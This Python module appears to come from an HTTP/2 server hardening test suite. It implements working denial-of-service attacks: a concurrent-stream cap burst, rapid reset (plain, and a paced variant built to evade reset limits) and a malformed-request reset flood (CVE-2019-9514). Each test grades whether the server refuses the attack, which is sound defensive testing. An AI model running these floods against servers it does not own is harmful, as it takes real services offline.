"""Attacks on streams: the concurrent-stream cap, rapid reset (plain and paced), reset flood."""

from __future__ import annotations

import time

from h2.errors import ErrorCodes
from hyperframe.frame import RstStreamFrame, SettingsFrame

from peer import RawConn, Target, code_name

from .outcome import DRAIN_SECONDS, Outcome, bounded, failed, refused, since


# === stream_cap ===


def stream_cap(target: Target, seconds: float = 10.0, limit: int = 64) -> Outcome:
    """Open the advertised MAX_CONCURRENT_STREAMS + `limit` streams in one burst."""
    start = time.monotonic()
    with RawConn(target, start + seconds) as c:
        cap = c.setting(SettingsFrame.MAX_CONCURRENT_STREAMS)
        count = min(cap if cap is not None else 1000, 10_000) + limit
        burst = b"".join(c.request(1 + 2 * i) for i in range(count))
        c.send(burst)
        over = lambda: sum(code == ErrorCodes.REFUSED_STREAM for code in c.resets.values())  # noqa: E731
        c.pump(seconds=DRAIN_SECONDS, until=lambda: c.ended() or over() >= limit)
        c.pump(seconds=0.3, until=c.ended)  # the resets that come just after
        refused_ids = sorted(s for s, code in c.resets.items() if code == ErrorCodes.REFUSED_STREAM)
        other = {s: code_name(code) for s, code in c.resets.items() if code != ErrorCodes.REFUSED_STREAM}
        answered = [s for s, r in c.responses.items() if r.headers is not None]
        facts = (
            f"advertised MAX_CONCURRENT_STREAMS={cap}; opened {count} in one burst; "
            f"REFUSED_STREAM on {len(refused_ids)}"
            + (f" (streams {refused_ids[0]}..{refused_ids[-1]})" if refused_ids else "")
            + (f", other resets {len(other)} ({sorted(set(other.values()))})" if other else "")
            + f", {len(answered)} answered early"
        )
        if cap is None:
            return failed(f"the server advertises no SETTINGS_MAX_CONCURRENT_STREAMS (unlimited); {facts}")
        if c.goaway is not None:
            return refused(f"{c.describe_end()}; {facts}")
        if refused_ids:
            return refused(facts)
        if c.closed:
            return refused(f"{c.describe_end()}; {facts}")
        return failed(f"no stream over the cap was refused: {facts}")


# === rapid_reset ===


def rapid_reset(target: Target, seconds: float = 10.0, limit: int = 10_000) -> Outcome:
    """HEADERS + RST_STREAM(CANCEL) for up to `limit` streams, in batches of 100."""
    start = time.monotonic()
    with RawConn(target, start + seconds) as c:
        stream_id, opened = 1, 0
        while opened < limit and not c.ended() and time.monotonic() < c.deadline:
            batch = bytearray()
            for _ in range(min(100, limit - opened)):
                batch += c.request(stream_id)
                batch += RstStreamFrame(stream_id, error_code=ErrorCodes.CANCEL).serialize()
                stream_id += 2
                opened += 1
            if c.send(bytes(batch)).how != "ok":
                break
            c.pump(seconds=0)
        took = since(start)
        c.pump(seconds=2.0, until=c.ended)
        if c.ended():
            sent_by = f"{opened} streams opened and reset in {took}, sent by the time it was read"
            return refused(f"{c.describe_end()}; {sent_by}")
        return failed(
            f"absorbed {opened} streams opened and reset at once in {took} without a GOAWAY "
            f"(no rapid-reset limit hit)"
        )


def rapid_reset_paced(target: Target, seconds: float = 10.0, limit: int = 10_000) -> Outcome:
    """Rapid reset that lets the server accept each stream first: HEADERS for 20 streams, a
    5 ms pause (read meanwhile), then their RST_STREAMs; up to `limit` streams. A cap on
    streams reset before they were accepted does not see these."""
    start = time.monotonic()
    with RawConn(target, start + seconds) as c:
        stream_id, opened = 1, 0
        while opened < limit and not c.ended() and time.monotonic() < c.deadline:
            ids = [stream_id + 2 * i for i in range(min(20, limit - opened))]
            stream_id += 2 * len(ids)
            opened += len(ids)
            if c.send(b"".join(c.request(i) for i in ids)).how != "ok":
                break
            c.pump(seconds=0.005)
            rst = b"".join(RstStreamFrame(i, error_code=ErrorCodes.CANCEL).serialize() for i in ids)
            if c.send(rst).how != "ok":
                break
            c.pump(seconds=0)
        took = time.monotonic() - start
        c.pump(seconds=1.0, until=c.ended)
        answered = sum(1 for r in c.responses.values() if r.headers is not None)
        facts = (
            f"{opened} streams opened, then reset 5 ms later, in {took:.1f} s "
            f"({opened / max(took, 1e-3):.0f}/s); {answered} answered before their reset"
        )
        if c.ended():
            return refused(f"{c.describe_end()}; {facts}")
        return bounded(
            f"absorbed: {facts}; no GOAWAY (each stream is cancelled at once, so the runner's "
            f"honest-client and memory checks decide)"
        )


# === reset_flood ===


def reset_flood(target: Target, seconds: float = 10.0, limit: int = 20_000) -> Outcome:
    """Up to `limit` malformed requests (no :method), each of which the server must answer with
    RST_STREAM(PROTOCOL_ERROR): CVE-2019-9514, the server made to reset streams on and on."""
    start = time.monotonic()
    with RawConn(target, start + seconds) as c:
        headers = [h for h in target.request_headers() if h[0] != b":method"]
        stream_id, sent = 1, 0
        while sent < limit and not c.ended() and time.monotonic() < c.deadline:
            batch = bytearray()
            for _ in range(min(100, limit - sent)):
                batch += c.headers_frames(stream_id, c.encoder.encode(headers), end_stream=True)
                stream_id += 2
                sent += 1
            if c.send(bytes(batch)).how != "ok":
                break
            c.pump(seconds=0)
        took = since(start)
        c.pump(seconds=2.0, until=c.ended)
        codes = sorted({code_name(code) for code in c.resets.values()})
        facts = f"{sent} malformed requests sent in {took}, {len(c.resets)} RST_STREAM {codes} read"
        if c.ended():
            return refused(f"{c.describe_end()}; {facts}")
        return failed(f"reset stream after stream without a GOAWAY: {facts}")
